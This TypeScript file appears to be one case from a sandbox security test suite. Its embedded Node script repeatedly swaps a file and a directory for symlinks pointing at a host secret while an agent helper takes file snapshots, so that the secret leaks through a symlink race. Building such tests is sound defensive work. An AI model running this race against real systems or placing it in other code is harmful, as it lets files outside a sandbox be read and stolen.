import { defineAttack } from '../attack.ts'
import { isStolen, planted, type Stolen } from '../stolen.ts'

const swap = (path: string) => `import fs from 'node:fs'
const end = Date.now() + 1500
while (Date.now() < end) {
  fs.writeFileSync('n', 'x'); fs.renameSync('n', 'file')
  fs.symlinkSync('${path}', 'n'); fs.renameSync('n', 'file')
  try { fs.rmSync('dir', { recursive: true }); fs.mkdirSync('dir'); fs.writeFileSync('dir/x', 'x'); fs.rmSync('dir', { recursive: true }); fs.symlinkSync('${path.slice(0, path.lastIndexOf('/'))}', 'dir') } catch {}
}`

export default defineAttack<Stolen>({
  name: 'swap a file for a link in the moment it is read',
  async attempt(range) {
    const secret = range.secret()
    const path = await range.hostFile(secret)
    return range.withStand({}, async ({ run, agent }) => {
      const swapping = run({ program: { node: swap(path) } })
      const merged = await agent(async (helper) => {
        const files = new Map<string, Buffer>()
        for (const until = performance.now() + 1200; performance.now() < until; ) {
          const limits = { maxFiles: 100, maxBytes: 1e6, maxFileBytes: 1e5 }
          for (const [name, bytes] of (await helper.snapshot(limits)).files) {
            if (bytes.includes(secret) || !files.has(name)) files.set(name, bytes)
          }
        }
        return files
      })
      await swapping
      return { snapshot: { files: merged, leftOut: [], isComplete: true }, secret }
    })
  },
  succeeded: isStolen,
  control: planted,
})
